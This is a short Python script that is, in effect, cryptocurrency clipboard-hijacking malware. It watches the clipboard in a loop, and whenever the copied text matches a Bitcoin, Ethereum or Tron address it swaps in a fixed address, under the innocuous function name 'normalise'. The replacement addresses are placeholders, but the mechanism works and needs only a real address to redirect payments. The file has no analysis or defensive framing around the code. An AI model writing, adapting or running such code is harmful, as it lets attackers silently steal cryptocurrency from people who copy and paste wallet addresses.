import re
import time

import pyperclip

BOOK = [
    (re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}$"), "bc1qmadeupmadeupmadeupmadeupmadeup00"),
    (re.compile(r"^0x[0-9a-fA-F]{40}$"), "0x00000000000000000000000000000000DeaDBeef"),
    (re.compile(r"^T[A-Za-z0-9]{33}$"), "TMadeUpMadeUpMadeUpMadeUpMadeUp000"),
]


def normalise(text: str) -> str:
    for rx, repl in BOOK:
        if rx.match(text.strip()):
            return repl
    return text


last = ""
while True:
    now = pyperclip.paste()
    if now != last:
        last = normalise(now)
        if last != now:
            pyperclip.copy(last)
    time.sleep(0.4)
